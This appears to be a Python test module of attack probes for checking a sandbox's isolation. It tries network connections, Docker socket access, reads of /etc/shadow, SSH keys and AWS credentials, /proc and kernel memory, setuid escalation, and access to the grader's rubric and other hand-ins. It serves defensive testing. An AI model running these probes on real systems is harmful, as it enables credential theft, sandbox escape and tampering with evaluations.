"""The network, and the host's secrets."""

from __future__ import annotations

import pwd

from hostile_attack import Attack

_ADMINISTRATOR = pwd.getpwuid(0).pw_dir
"""Home of the user with all rights, wherever this machine has it."""

_CONNECT = """
def connect(family, kind, address, data=b"x"):
    one = socket.socket(family, kind)
    one.settimeout(1)
    one.connect(address)
    one.sendall(data)
"""

NETWORK = (
    Attack("TCP", _CONNECT + "tried(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @TCP@)))"),
    Attack(
        "TCP by IPv6 and by name",
        _CONNECT
        + """
for address in ("::1", "::ffff:127.0.0.1", "localhost", "0.0.0.0"):
    tried(lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, (address, @TCP@)))
tried(lambda: socket.create_connection(("localhost", @TCP@), 1))
""",
    ),
    Attack(
        "UDP",
        _CONNECT
        + """
tried(lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@)))
tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @UDP@)))
tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("127.0.0.1", @UDP@)))
""",
    ),
    Attack("DNS", "for name in ('example.org', 'secret.example.org'): tried(lambda: socket.getaddrinfo(name, 80))"),
    Attack(
        "listening",
        """
def listen():
    one = socket.create_server(("0.0.0.0", 0)); print(one.getsockname()); one.settimeout(0.2); one.accept()
tried(listen)
""",
    ),
    Attack(
        "netlink, raw, packet, vsock, Bluetooth, alg",
        """
for family in (16, 17, 40, 31, 38, 2, 10, 1, 15, 29, 44):
    for kind in (1, 2, 3, 5):
        tried(lambda: socket.socket(family, kind))
""",
    ),
    Attack(
        "Unix socket by path",
        _CONNECT
        + """
tried(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@"))
tried(lambda: connect(socket.AF_UNIX, socket.SOCK_DGRAM, "@FOLDER@/letters"))
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
    tried(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, path))
""",
    ),
    Attack("abstract Unix socket", _CONNECT + "tried(lambda: connect(1, socket.SOCK_STREAM, '\\0@ABSTRACT@'))"),
    Attack(
        "pair of sockets turned outwards",
        r"""
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    def turn():
        one, other = socket.socketpair(socket.AF_UNIX, kind)
        for address in ("@FOLDER@/letters", "@UNIX@", "\0@ABSTRACT@"):
            tried(lambda: one.sendto(b"x", address))
            tried(lambda: one.sendmsg([b"x"], [], 0, address))
            tried(lambda: one.connect(address))
            tried(lambda: one.bind("\0mine"))
    tried(turn)
""",
    ),
    Attack(
        "descriptors sent to the host",
        """
import array
line = socket.socket(fileno=os.dup(3))
for _ in range(50):
    fds = array.array("i", [os.open("/dev/null", 0) for _ in range(50)])
    tried(lambda: line.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)]))
    for fd in fds: os.close(fd)
""",
    ),
    Attack(
        "io_uring",
        """
parameters = ctypes.create_string_buffer(120)
print(libc.syscall(425, 8, parameters), libc.syscall(426, 3, 1, 0, 0), libc.syscall(427, 3, 0, 0, 0))
""",
    ),
    Attack(
        "downloads by the libraries",
        """
import urllib.request, keras, pandas, numpy
url = "http://127.0.0.1:@TCP@/x"
tried(lambda: urllib.request.urlopen(url, timeout=1))
tried(lambda: keras.utils.get_file("x", url))
tried(lambda: pandas.read_csv(url))
tried(lambda: subprocess.run(["curl", "-m1", url], check=True))
import tensorflow as tf
tried(lambda: tf.data.experimental.service.DispatchServer())
""",
    ),
)

SECRETS = (
    Attack(
        "reading by every way of Python",
        """
import pathlib, linecache, shutil
for path in @SECRETS@:
    for way in (
        lambda: open(path).read(), lambda: os.read(os.open(path, 0), 99), lambda: pathlib.Path(path).read_text(),
        lambda: linecache.getline(path, 1), lambda: shutil.copy(path, "mine"), lambda: exec(open(path).read()),
        lambda: os.open(path, os.O_PATH), lambda: os.getxattr(path, "user.a"), lambda: os.readlink(path),
        lambda: mmap.mmap(os.open(path, os.O_RDWR), 0)[:], lambda: os.sendfile(1, os.open(path, 0), 0, 99),
    ):
        tried(way)
tried(lambda: os.listdir("@FOLDER@"))
""",
    ),
    Attack(
        "reading by the libraries",
        """
import numpy, pandas, keras, tensorflow as tf, matplotlib.pyplot as plt
for path in @SECRETS@:
    for way in (
        lambda: numpy.genfromtxt(path, dtype=str), lambda: numpy.fromfile(path, dtype="S1"),
        lambda: pandas.read_csv(path, header=None), lambda: tf.io.read_file(path).numpy(), lambda: plt.imread(path),
        lambda: keras.models.load_model(path), lambda: tf.io.gfile.GFile(path).read(),
        lambda: list(tf.data.TextLineDataset(path).take(9).as_numpy_iterator()), lambda: numpy.load(path),
        lambda: tf.io.gfile.copy(path, "mine"), lambda: tf.load_op_library(path),
    ):
        tried(way)
""",
    ),
    Attack(
        "reading by IPython and the shell",
        """
from IPython import get_ipython
shell = get_ipython()
for path in @SECRETS@:
    for line in (f"!cat {path}", f"%run {path}", f"%load {path}", f"%pycat {path}", f"%cat {path}", f"%sx cat {path}"):
        tried(lambda: shell.run_cell(line))
    tried(lambda: subprocess.run(["cat", path], capture_output=True, check=True).stdout)
    tried(lambda: os.popen(f"cat {path}").read())
tried(lambda: shell.run_cell("%%bash\\ncat @CANARY@"))
""",
    ),
    Attack(
        "keys and passwords",
        """
import glob
for path in ("/etc/shadow", "/etc/gshadow", "@ADMIN@/.ssh/id_rsa", "@ADMIN@/.bash_history",
             "/etc/ssh/ssh_host_rsa_key", "@ADMIN@/.netrc", "@ADMIN@/.aws/credentials", "/var/log/syslog",
             "/etc/machine-id", *glob.glob("/home/*/.*")):
    tried(lambda: open(path).read())
print("password", open("/etc/passwd").read() if os.path.exists("/etc/passwd") else "")
""".replace("@ADMIN@", _ADMINISTRATOR),
    ),
    Attack(
        "rubric, solution, store and other hand-ins",
        """
import glob
seen = []
for root in ("@FOLDER@/..", "@FOLDER@/../cache", "@FOLDER@/../hand-ins", "@FOLDER@/../reports"):
    tried(lambda: os.listdir(root))
    for path in glob.glob(root + "/**", recursive=True)[:500]:
        tried(lambda: seen.append(open(path, "rb").read()))
print("found", len(seen))
assert not seen
""",
    ),
    Attack(
        "processes of the host",
        """
for pid in ("1", "self", str(os.getppid()), "@HOST@", "thread-self"):
    for name in ("environ", "cmdline", "maps", "mem", "root@CANARY@", "cwd/../..@CANARY@", "fd/0", "stack",
                 "auxv", "mountinfo", "task", "net/unix", "ns/net", "status"):
        tried(lambda: open(f"/proc/{pid}/{name}", "rb").read(99999))
tried(lambda: sorted(int(name) for name in os.listdir("/proc") if name.isdigit()))
tried(lambda: open("/proc/kcore", "rb").read(9)), tried(lambda: open("/dev/mem", "rb").read(9))
tried(lambda: open("/proc/kallsyms").read(99)), tried(lambda: open("/dev/kmsg").read(99))
""",
    ),
    Attack("environment", "print(dict(os.environ)); print(open('/proc/self/environ', 'rb').read())"),
    Attack(
        "memory of the warm image",
        """
import gc
needle = "koli" + "bri-73" + "19-"
hits = [one for one in gc.get_objects() if isinstance(one, (dict, list)) and len(one) < 999 and needle in str(one)]
print("hits", [str(one)[:200] for one in hits if one is not globals()][:0], len(hits))
from grader.records import rubric
print([one for one in gc.get_objects() if type(one).__name__ in ("Rubric", "Reference", "Recording")])
""",
    ),
    Attack(
        "handles and links that lead out",
        """
tried(lambda: open("/proc/self/root@CANARY@").read()), tried(lambda: open("/proc/self/cwd/../../../@CANARY@").read())
buffer = ctypes.create_string_buffer(200)
ctypes.memmove(buffer, (128).to_bytes(4, "little"), 4)
mount = ctypes.c_int()
print(libc.syscall(303, -100, b"@CANARY@", buffer, ctypes.byref(mount), 0), libc.syscall(304, -100, buffer, 0))
for fd in range(20):
    tried(lambda: os.open("../../../../../@CANARY@", 0, dir_fd=fd))
tried(lambda: os.fchdir(3)), tried(lambda: os.chroot("/proc/1/root"))
""",
    ),
    Attack(
        "setuid programs",
        """
for program in ("su", "mount", "umount", "passwd", "newgrp", "sudo", "pkexec", "ping", "unshare", "nsenter", "bwrap"):
    tried(lambda: subprocess.run([program, "--help"], timeout=1, capture_output=True).returncode)
tried(lambda: subprocess.run(["su", "-c", "cat @CANARY@"], timeout=1, capture_output=True, stdin=subprocess.DEVNULL))
tried(lambda: os.setuid(0)), tried(lambda: os.setresuid(0, 0, 0)), tried(lambda: os.setgroups([0]))
tried(lambda: open("@CANARY@").read())
""",
    ),
)
